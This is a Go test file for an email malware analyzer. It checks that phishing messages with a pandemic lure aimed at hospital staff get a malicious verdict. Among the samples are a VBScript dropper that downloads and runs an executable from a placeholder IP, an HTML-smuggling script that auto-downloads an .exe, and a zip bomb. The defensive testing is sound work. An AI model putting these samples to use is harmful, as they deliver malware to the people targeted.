package mail

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/base64"
	"fmt"
	"strings"
	"testing"
)

// These end-to-end tests need the findings of internal/mail/attach: they
// check that a dropper reaches the verdict, whatever wrapping carries it.

const dropperVBS = "Set sh = CreateObject(\"WScript.Shell\")\r\n" +
	"Set x = CreateObject(\"MSXML2.XMLHTTP\")\r\nx.Open \"GET\", \"http://203.0.113.9/nw.exe\", False\r\nx.Send\r\n" +
	"Set s = CreateObject(\"ADODB.Stream\")\r\ns.Open\r\ns.Type = 1\r\ns.Write x.responseBody\r\n" +
	"s.SaveToFile \"C:\\Users\\Public\\nw.exe\", 2\r\nsh.Run \"C:\\Users\\Public\\nw.exe\"\r\n"

func withAttachment(name, ctype string, data []byte) []byte {
	var b strings.Builder
	b.WriteString("From: \"Ministerio de Sanidad\" <info@example.es>\r\nTo: personal@hospital.es\r\n" +
		"Subject: Informacion sobre el Covid-19\r\nContent-Type: multipart/mixed; boundary=\"b\"\r\n\r\n" +
		"--b\r\nContent-Type: text/plain\r\n\r\nAdjunto la informacion.\r\n--b\r\n")
	fmt.Fprintf(&b, "Content-Type: %s; name=%q\r\nContent-Disposition: attachment; filename=%q\r\nContent-Transfer-Encoding: base64\r\n\r\n", ctype, name, name)
	b.WriteString(base64.StdEncoding.EncodeToString(data))
	b.WriteString("\r\n--b--\r\n")
	return []byte(b.String())
}

func zipOf(name string, data []byte) []byte {
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	w, _ := zw.Create(name)
	w.Write(data)
	zw.Close()
	return buf.Bytes()
}

func TestDropperEndToEnd(t *testing.T) {
	smuggling := `<html><script>var d=atob("TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAgAAAAA4fug4AtAnNIbgBTM0hVGhpcyBwcm9ncmFtIGNhbm5vdCBiZSBydW4gaW4gRE9TIG1vZGUuDQ0KJAAAAAAAAABQRQAA");` +
		`var b=new Blob([Uint8Array.from(d,c=>c.charCodeAt(0))]);var a=document.createElement("a");a.href=URL.createObjectURL(b);a.download="Covid19_info.exe";a.click();</script></html>`
	a := newTestAnalyzer(t, Config{})
	for name, raw := range map[string][]byte{
		"bare .vbs":        withAttachment("CORONAVIRUS_COVID-19.vbs", "application/octet-stream", []byte(dropperVBS)),
		".vbs in a zip":    withAttachment("CORONAVIRUS_COVID-19.zip", "application/zip", zipOf("CORONAVIRUS_COVID-19.vbs", []byte(dropperVBS))),
		"zip in a zip":     withAttachment("info.zip", "application/zip", zipOf("inner.zip", zipOf("CORONAVIRUS_COVID-19.vbs", []byte(dropperVBS)))),
		"HTML smuggling":   withAttachment("factuur.html", "text/html", []byte(smuggling)),
		"renamed as .txt":  withAttachment("leesmij.txt.vbs", "text/plain", []byte(dropperVBS)),
		"forwarded inside": []byte("From: a@example.org\r\nSubject: fw\r\nContent-Type: message/rfc822\r\n\r\n" + string(withAttachment("x.vbs", "application/octet-stream", []byte(dropperVBS)))),
	} {
		t.Run(name, func(t *testing.T) {
			r := a.Analyze(context.Background(), name, raw)
			if r.Verdict != Malicious {
				t.Errorf("verdict %s (score %d), want malicious: %v", r.Verdict, r.Score, r.Reasons)
			}
		})
	}
}

func TestZipBombEndToEnd(t *testing.T) {
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	w, _ := zw.Create("scan.txt")
	zero := make([]byte, 1<<20)
	for i := 0; i < 24; i++ {
		w.Write(zero)
	}
	zw.Close()
	r := newTestAnalyzer(t, Config{}).Analyze(context.Background(), "bomb", withAttachment("scans.zip", "application/zip", buf.Bytes()))
	if r.Verdict.Rank() < Suspicious.Rank() {
		t.Errorf("a 24 MiB zip bomb gives %s: %v", r.Verdict, r.Reasons)
	}
}
